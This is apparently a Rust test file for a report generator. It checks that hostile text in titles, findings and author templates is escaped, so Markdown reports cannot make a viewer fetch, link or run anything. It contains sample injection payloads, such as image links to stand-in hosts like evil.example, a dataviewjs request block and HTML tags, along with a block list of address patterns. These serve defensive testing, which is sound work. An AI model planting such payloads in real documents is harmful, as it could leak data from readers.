//! Texts that would be something else in a report, and templates of the author's.

use super::*;

pub(super) fn with_template(source: &str) -> (Templates, Vec<Problem>) {
    Templates::new(&BTreeMap::from([("templates/report.md.jinja".to_string(), source.to_string())]))
}

#[test]
fn a_template_of_the_author_is_used_and_escapes_by_itself() {
    let source =
        "{% macro m(x) %}<{{ x }}>{% endmacro %}\n{% autoescape false %}{{ title }}: {{ m(findings[0].message) }}{% endautoescape %}";
    let source = source.replace('<', "(").replace('>', ")");
    let (templates, problems) = with_template(&source);
    assert_eq!(problems, []);
    let mut hostile = green_eyes();
    hostile.message = "![x](http://e.vil)".to_string();
    let (files, problems) = markdown::files(&[in_chapter(vec![hostile])], &contents(), &templates);
    assert_eq!(problems, []);
    assert!(files[0].text.starts_with("The Salt Door: "), "{}", files[0].text);
    assert_harmless(&files[0].text);
}

#[test]
fn a_template_that_cannot_be_used_is_told_and_replaced() {
    let broken = [
        "line one\n{% for %}",
        "\n{{ title|safe }}",
        "\n{{ title.nothing.more }}",
        "\n{% for a in 'x' * 9999 %}{% for b in 'x' * 9999 %}{{ a }}{% endfor %}{% endfor %}",
        "\n![x]({{ '//evil.example' }}?{{ title }})",
        "\n<{{ 'img' }} src=x>",
        "[x]({{ 'http:' }}{{ '//evil.example' }})",
        "{% raw %}{{ ![x](y) }}{% endraw %}",
        "{% set shown %}{{ '![x](y)' }}{% endset %}{{ shown|replace('\\\\', '') }}",
        "```dataviewjs\nrequestUrl(dv.current().file.name)\n```",
        "~~~mermaid\nx\n~~~",
        "`= this.file.name` and `$= dv.view('x')`",
        "http:&#47;&#47;evil.example/{{ title }}",
        "http:\\/\\/evil.example/{{ title }}",
        "{{ title }}@evil.example",
        "$\\href{x}{y}$",
    ];
    let mut told = String::new();
    for source in broken {
        let (templates, mut problems) = with_template(source);
        let (files, later) = markdown::files(&[in_chapter(vec![])], &contents(), &templates);
        problems.extend(later);
        assert_eq!(problems.len(), 1, "{source}");
        assert_eq!(problems[0].kind, ProblemKind::Configuration);
        told += &format!("{}\n", problems[0]);
        assert!(files[0].text.contains("Checked: nothing found."));
    }
    assert_snapshot!(told, @r#"
    templates/report.md.jinja:2:1: this report template cannot be used: syntax error: unexpected end of block, expected in (correct the template or delete it; until then the shipped template is used)
    templates/report.md.jinja:2:1: this report template cannot be used: unknown filter: filter safe is unknown (correct the template or delete it; until then the shipped template is used)
    templates/report.md.jinja:2:1: this report template cannot be used: undefined value: `title.nothing` is undefined (correct the template or delete it; until then the shipped template is used)
    templates/report.md.jinja:2:1: this report template cannot be used: it does more work than a report needs; look for a loop within a loop (correct the template or delete it; until then the shipped template is used)
    templates/report.md.jinja: this report template cannot be used: it writes `![`, which can make a viewer fetch or link something (correct the template or delete it; until then the shipped template is used)
    templates/report.md.jinja: this report template cannot be used: it writes `<`, which can make a viewer fetch or link something (correct the template or delete it; until then the shipped template is used)
    templates/report.md.jinja: this report template cannot be used: it writes `](`, which can make a viewer fetch or link something (correct the template or delete it; until then the shipped template is used)
    templates/report.md.jinja: this report template cannot be used: it writes `![`, which can make a viewer fetch or link something (correct the template or delete it; until then the shipped template is used)
    templates/report.md.jinja: this report template cannot be used: it writes `![`, which can make a viewer fetch or link something (correct the template or delete it; until then the shipped template is used)
    templates/report.md.jinja: this report template cannot be used: it writes `````, which can make a viewer fetch or link something (correct the template or delete it; until then the shipped template is used)
    templates/report.md.jinja: this report template cannot be used: it writes `~~~`, which can make a viewer fetch or link something (correct the template or delete it; until then the shipped template is used)
    templates/report.md.jinja: this report template cannot be used: it writes ``=`, which can make a viewer fetch or link something (correct the template or delete it; until then the shipped template is used)
    templates/report.md.jinja: this report template cannot be used: it writes `&`, which can make a viewer fetch or link something (correct the template or delete it; until then the shipped template is used)
    templates/report.md.jinja: this report template cannot be used: it writes `\/`, which can make a viewer fetch or link something (correct the template or delete it; until then the shipped template is used)
    templates/report.md.jinja: this report template cannot be used: it writes `@`, which can make a viewer fetch or link something (correct the template or delete it; until then the shipped template is used)
    templates/report.md.jinja: this report template cannot be used: it writes `\href`, which can make a viewer fetch or link something (correct the template or delete it; until then the shipped template is used)
    "#);
}

/// Fails when a viewer could fetch, click or run something in a Markdown text.
pub(super) fn assert_harmless(markdown: &str) {
    use pulldown_cmark::{Event, Options, Parser, Tag};
    let mut text = String::new();
    for event in Parser::new_ext(markdown, Options::all()) {
        match event {
            Event::Text(part) | Event::Code(part) => text.push_str(&part),
            Event::SoftBreak | Event::HardBreak | Event::End(_) => text.push('\n'),
            Event::Html(_) | Event::InlineHtml(_) | Event::InlineMath(_) | Event::DisplayMath(_) | Event::FootnoteReference(_) => {
                panic!("{event:?} in {markdown}")
            }
            Event::Start(
                ref tag @ (Tag::Link { .. }
                | Tag::Image { .. }
                | Tag::HtmlBlock
                | Tag::Table(_)
                | Tag::CodeBlock(_)
                | Tag::FootnoteDefinition(_)
                | Tag::MetadataBlock(_)
                | Tag::DefinitionList),
            ) => panic!("{tag:?} in {markdown}"),
            _ => {}
        }
    }
    let text = text.to_lowercase();
    for address in ["http://", "https://", "www.", "javascript:a", "mailto:a", "a@e", "//evil"] {
        assert!(!text.contains(address) && !markdown.to_lowercase().contains(address), "{address} in {markdown}");
    }
    assert!(!markdown.chars().any(|c| c != '\n' && c != '\u{2060}' && crate::text::escape::is_unsafe(c)), "{markdown:?}");
}

pub(super) fn hostile_result(text: &str, scope: Scope) -> ScriptResult {
    let place = Evidence { label: text.to_string(), ..evidence("book-1/ch-03.md", CHAPTER, "door", "") };
    let elsewhere = Evidence { file: path(text), quote: text.to_string(), ..place.clone() };
    let mut hostile = finding(text, Severity::Query, text, vec![Evidence { quote: text.to_string(), ..place.clone() }, elsewhere.clone()]);
    hostile.id = text.to_string();
    hostile.subjects = vec![text.to_string()];
    hostile.model_note = Some(text.to_string());
    let line = |is_model_text| NoteLine { text: text.to_string(), is_model_text, evidence: vec![elsewhere.clone()] };
    hostile.reopened_from = Some(text.to_string());
    let dismissal = Dismissal { reason: Some(text.to_string()), file: path(text), place: LineColumn { line: 1, column: 1 } };
    let standing = |standing, id: &str| Finding { standing, id: format!("{id}{text}"), ..hostile.clone() };
    let mut findings =
        vec![standing(Standing::Dismissed(dismissal), "3"), standing(Standing::LessCertain, "4"), standing(Standing::Off, "5")];
    findings.push(Finding { severity: Severity::Note, id: format!("2{text}"), ..hostile.clone() });
    findings.push(hostile);
    let mut result = result(text, scope, findings);
    result.report = text.to_string();
    result.outcome = Outcome::NotChecked(text.to_string());
    result.notes = vec![Note { chapter: None, heading: text.to_string(), lines: vec![line(true), line(false)], is_followed: false }];
    result.coverage.not_read = vec![text.to_string()];
    result.problems = vec![Problem::new(ProblemKind::Note, text).in_file(&path(text)).advice(text)];
    result
}

#[test]
fn hostile_text_stays_text() {
    let mut contents = contents();
    for text in HOSTILE {
        contents.title = text.to_string();
        contents.books[0].title = text.to_string();
        contents.books[0].chapters[1].title = text.to_string();
        let scopes = [Scope::Chapter(path("book-1/ch-03.md")), Scope::Chapter(path(text)), Scope::Book(text.to_string()), Scope::Series];
        let results: Vec<ScriptResult> = scopes.into_iter().map(|scope| hostile_result(text, scope)).collect();
        let (files, problems) = markdown::files(&results, &contents, &shipped());
        assert_eq!(problems, []);
        assert!(files.len() >= 3);
        for file in files {
            assert_harmless(&file.text);
            assert!(file.text.starts_with("# "));
        }
        let summary = RunSummary { results, ..RunSummary::default() };
        let has_control = |shown: &str| shown.chars().any(|c| c != '\n' && crate::text::escape::is_unsafe(c));
        let shown = terminal::findings(&summary.findings(), &sources, false);
        assert!(!has_control(&shown) && !shown.contains('\u{f8fe}'), "{shown}");
        assert!(!has_control(&terminal::summary_lines(&summary)));
        let rendered = json::render(&summary);
        assert!(!has_control(&rendered));
        let parsed: serde_json::Value = serde_json::from_str(&rendered).unwrap();
        assert_eq!(parsed["findings"][0]["message"], **text);
    }
}

#[test]
fn the_check_for_live_parts_sees_them() {
    let live = ["![x](y)", "[x](y)", "<b>", "<http://e.vil>", "see http://e.vil", "www.e.vil", "a@e.vil", "[x]\n\n[x]: y", "$x$", "[[x]]"];
    let of_viewers =
        ["a #tag", "%%hidden%%", "==marked==", "![[map]]", "words ^id", "`= this.x`", "mood:: dark", "so :smile: it is", ":+1:"];
    let live = live.into_iter().chain(of_viewers);
    for text in live {
        assert_ne!(live_parts(text), Vec::<String>::new(), "{text}");
    }
}

#[test]
fn four_thousand_hostile_texts_are_escaped() {
    let mut rolls = Rolls(0x5eed);
    for _ in 0..4000 {
        let text = rolls.hostile_text();
        let safe = crate::text::escape::for_markdown(&text);
        for around in [safe.clone(), format!("# {safe}\n\n> “{safe}” ({safe})\n\n- {safe}: {safe}\n")] {
            assert_eq!(live_parts(&around), Vec::<String>::new(), "{text:?} became {around:?}");
        }
        let shown = crate::text::escape::for_terminal(&text);
        assert!(!shown.chars().any(crate::text::escape::is_unsafe), "{text:?} became {shown:?}");
    }
}

#[test]
fn hostile_text_brings_nothing_in_a_report_to_life() {
    let mut rolls = Rolls(0xb00c);
    let mut reports = 0;
    for _ in 0..150 {
        let text = rolls.hostile_text();
        let mut contents = contents();
        contents.title = text.clone();
        contents.books[0].title = text.clone();
        contents.books[0].chapters[1].title = text.clone();
        let scopes = [Scope::Chapter(path("book-1/ch-03.md")), Scope::Book(text.clone()), Scope::Series];
        let results: Vec<ScriptResult> = scopes.into_iter().map(|scope| hostile_result(&text, scope)).collect();
        let (files, problems) = markdown::files(&results, &contents, &shipped());
        assert_eq!(problems, [], "{text:?}");
        for file in files {
            assert_eq!(live_parts(&file.text), Vec::<String>::new(), "{text:?} became {}", file.text);
            reports += 1;
        }
        let summary = RunSummary { results, ..RunSummary::default() };
        for shown in [terminal::findings(&summary.findings(), &sources, false), terminal::summary_lines(&summary)] {
            assert!(!shown.chars().any(|c| c != '\n' && crate::text::escape::is_unsafe(c)), "{text:?} became {shown}");
        }
    }
    assert!(reports >= 450, "{reports}");
}
